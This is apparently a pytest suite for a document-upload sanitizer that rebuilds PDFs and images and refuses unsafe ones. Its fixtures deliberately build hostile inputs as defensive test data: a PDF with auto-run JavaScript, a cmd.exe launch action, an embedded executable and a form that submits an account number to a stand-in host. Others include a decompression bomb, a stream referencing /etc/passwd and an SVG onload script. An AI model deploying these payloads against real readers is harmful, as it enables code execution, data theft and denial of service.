"""What people send as papers is judged by its content and made anew; what can not be is refused in kind words."""

import io
import subprocess
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, ObjectStreamMode, Stream, StreamDecodeLevel, String
from PIL import Image

from app.core.errors import Invalid
from app.results import paper_files, pdf_child
from app.results.rules import FileForm
from app.web.backups import archive
from tests.results.examples import pdf, picture

sqlite_only = True


def made(raw):
    return paper_files.read(raw)


def refusal(raw):
    with pytest.raises(Invalid) as refused:
        paper_files.read(raw)
    return refused.value.fields["file"]


def plain(data):
    """All that is in a document, nothing compressed."""
    with pikepdf.open(io.BytesIO(data)) as opened:
        out = io.BytesIO()
        opened.save(
            out,
            compress_streams=False,
            stream_decode_level=StreamDecodeLevel.generalized,
            object_stream_mode=ObjectStreamMode.disable,
        )
        return out.getvalue()


@pytest.fixture
def hostile():
    """Everything that a document could do besides being read."""
    with pikepdf.new() as bad:
        page = bad.add_blank_page(page_size=(200, 200))
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
        bad.Root.OpenAction = script
        bad.Root.AA = Dictionary(WC=script)
        bad.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("go"), script])))
        bad.Root.URI = Dictionary(Base=String("http://elsewhere.example/"))
        bad.Root.Metadata = Stream(bad, b"<x>secret author</x>")
        bad.attachments["evil.exe"] = b"MZ-program"
        page.obj.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe")))
        page.obj.PieceInfo = Dictionary(Tool=Dictionary(Private=String("secret draft")))
        look = Stream(bad, b"0 0 20 20 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 20, 20])
        field = Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("account"), V=String("6222 0000"), F=4, Rect=[10, 10, 30, 30]
        )
        field.AP = Dictionary(N=bad.make_indirect(look))
        field.A = Dictionary(S=Name.SubmitForm, F=String("http://elsewhere.example/take"))
        field = bad.make_indirect(field)
        link = bad.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.URI, URI=String("http://elsewhere.example"))
            )
        )
        page.obj.Annots = Array([field, link])
        bad.Root.AcroForm = Dictionary(Fields=Array([field]))
        bad.docinfo.Author = String("secret author")
        out = io.BytesIO()
        bad.save(out)
        return out.getvalue()


def test_only_what_is_printed_comes_through(hostile):
    paper = made(hostile)
    assert (paper.form, paper.pages) == (FileForm.PDF, 1)
    everything = plain(paper.data)
    for word in (b"JavaScript", b"alert", b"elsewhere", b"cmd.exe", b"MZ-program", b"evil", b"secret", b"AcroForm", b"Annots", b"6222"):
        assert word not in everything, word
    with pikepdf.open(io.BytesIO(paper.data)) as kept:
        assert set(kept.Root.keys()) == {"/Type", "/Pages"}
    assert b"0 0 20 20 re f" in everything, "what was filled in is part of the page now"


def test_the_same_document_comes_out_the_same():
    raw = pdf(3)
    assert made(raw).digest == made(raw).digest
    assert made(raw).pages == 3


def test_it_says_whether_words_could_be_copied_out():
    assert made(pdf(text="6222 0000")).has_text
    assert not made(pdf()).has_text


def test_a_scanned_page_loses_where_it_was_taken():
    exif = Image.Exif()
    exif[0x0110] = "SecretPhone"
    shot = io.BytesIO()
    Image.new("RGB", (100, 100), "teal").save(shot, "JPEG", exif=exif, comment=b"secret place")
    with pikepdf.new() as scan:
        page = scan.add_blank_page(page_size=(100, 100))
        image = Stream(
            scan,
            shot.getvalue(),
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=100,
            Height=100,
            ColorSpace=Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=Name.DCTDecode,
        )
        page.obj.Resources = Dictionary(XObject=Dictionary(Im=image))
        page.obj.Contents = Stream(scan, b"q 100 0 0 100 0 0 cm /Im Do Q")
        out = io.BytesIO()
        scan.save(out)
    assert b"SecretPhone" in out.getvalue()
    paper = made(out.getvalue())
    assert not paper.has_text
    with pikepdf.open(io.BytesIO(paper.data)) as kept:
        image = kept.pages[0].obj.Resources.XObject.Im
        raw = image.read_raw_bytes()
    assert b"SecretPhone" not in raw
    assert b"secret place" not in raw
    with Image.open(io.BytesIO(raw)) as seen:
        assert seen.size == (100, 100)
        assert seen.convert("RGB").getpixel((50, 50)) == pytest.approx((0, 128, 128), abs=4)


def test_pages_keep_what_they_inherit():
    with pikepdf.new() as made_up:
        made_up.add_blank_page(page_size=(300, 500))
        page = made_up.pages[0].obj
        made_up.Root.Pages.MediaBox, made_up.Root.Pages.Rotate = page.MediaBox, 90
        del page.MediaBox
        out = io.BytesIO()
        made_up.save(out)
    with pikepdf.open(io.BytesIO(made(out.getvalue()).data)) as kept:
        page = kept.pages[0]
        assert [int(side) for side in page.MediaBox] == [0, 0, 300, 500]
        assert int(page.obj.Rotate) == 90


@pytest.mark.parametrize("user", ["", "open me"])
def test_a_document_with_a_password_is_refused(user):
    assert "密码" in refusal(pdf(encryption=pikepdf.Encryption(owner="owner", user=user)))


@pytest.mark.parametrize("raw", [b"%PDF-1.7 nothing %%EOF", pdf(5)[:400], pdf()[:-200]])
def test_a_broken_or_shortened_document_is_refused(raw):
    assert "读不了" in refusal(raw)


def test_too_many_pages_are_refused():
    assert "60 页" in refusal(pdf(61))


def test_what_unpacks_beyond_measure_is_refused():
    with pikepdf.new() as bomb:
        page = bomb.add_blank_page()
        inside = bomb.make_stream(b"")
        inside.write(zlib.compress(b" " * (pdf_child.MAX_STREAM + 2_000_000), 9), filter=Name.FlateDecode)
        page.obj.Contents = inside
        out = io.BytesIO()
        bomb.save(out, compress_streams=False)
    assert len(out.getvalue()) < 1_000_000
    assert "太大" in refusal(out.getvalue())


def test_a_picture_that_claims_to_be_enormous_is_refused():
    with pikepdf.new() as bomb:
        page = bomb.add_blank_page()
        image = Stream(bomb, b"x", Type=Name.XObject, Subtype=Name.Image, Width=100_000, Height=100_000, BitsPerComponent=8)
        page.obj.Resources = Dictionary(XObject=Dictionary(Im=image))
        out = io.BytesIO()
        bomb.save(out)
    assert "太大" in refusal(out.getvalue())


def test_what_points_at_other_files_is_refused():
    with pikepdf.new() as pointing:
        page = pointing.add_blank_page()
        outside = Stream(pointing, b"")
        outside.F = String("/etc/passwd")
        page.obj.Contents = outside
        out = io.BytesIO()
        pointing.save(out)
    assert "外面" in refusal(out.getvalue())


def test_a_dynamic_form_is_refused():
    with pikepdf.new() as form:
        form.add_blank_page()
        form.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array([]))
        out = io.BytesIO()
        form.save(out)
    assert "动态表单" in refusal(out.getvalue())


def test_a_process_that_dies_refuses(monkeypatch):
    ended = subprocess.CompletedProcess([], -9, b"", b"")
    monkeypatch.setattr(paper_files.subprocess, "run", lambda *_, **__: ended)
    assert "太大" in refusal(pdf())


def test_a_process_that_takes_too_long_refuses(monkeypatch):
    def slow(*_, **__):
        raise subprocess.TimeoutExpired([], 1)

    monkeypatch.setattr(paper_files.subprocess, "run", slow)
    assert "太大" in refusal(pdf())


@pytest.mark.parametrize("raw", [b"PK\x03\x04 docx", b"\xd0\xcf\x11\xe0 doc"])
def test_office_files_are_to_be_saved_as_pdf_first(raw):
    assert "另存为 PDF" in refusal(raw)


@pytest.mark.parametrize("raw", [b"", b"<svg onload=alert(1)>", b"GIF89a", b"hello"])
def test_nothing_else_is_taken(raw):
    assert refusal(raw)


def test_too_large_a_file_is_refused():
    assert "10 MB" in refusal(b"%PDF-" + b" " * paper_files.MAX_BYTES)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_picture_becomes_a_jpeg_of_our_own(kind):
    paper = made(picture(kind=kind))
    assert (paper.form, paper.pages, paper.has_text) == (FileForm.JPEG, 1, False)
    with Image.open(io.BytesIO(paper.data)) as seen:
        assert (seen.format, seen.size) == ("JPEG", (320, 240))


def test_a_file_is_its_owners_alone_and_never_written_over(tmp_path):
    paper = made(picture())
    paper_files.store(tmp_path, "abc", paper)
    kept = paper_files.path(tmp_path, "abc", paper.form)
    assert kept.read_bytes() == paper.data
    assert kept.stat().st_mode & 0o777 == 0o600
    with pytest.raises(FileExistsError):
        paper_files.store(tmp_path, "abc", paper)
    paper_files.discard(tmp_path, "abc", paper.form)
    assert not kept.exists()


def test_papers_are_part_of_every_backup(tmp_path):
    paper = made(picture())
    paper_files.store(tmp_path, "abc", paper)
    assert ("uploads/papers/abc.jpg", paper_files.path(tmp_path, "abc", paper.form)) in list(archive.uploaded(tmp_path))
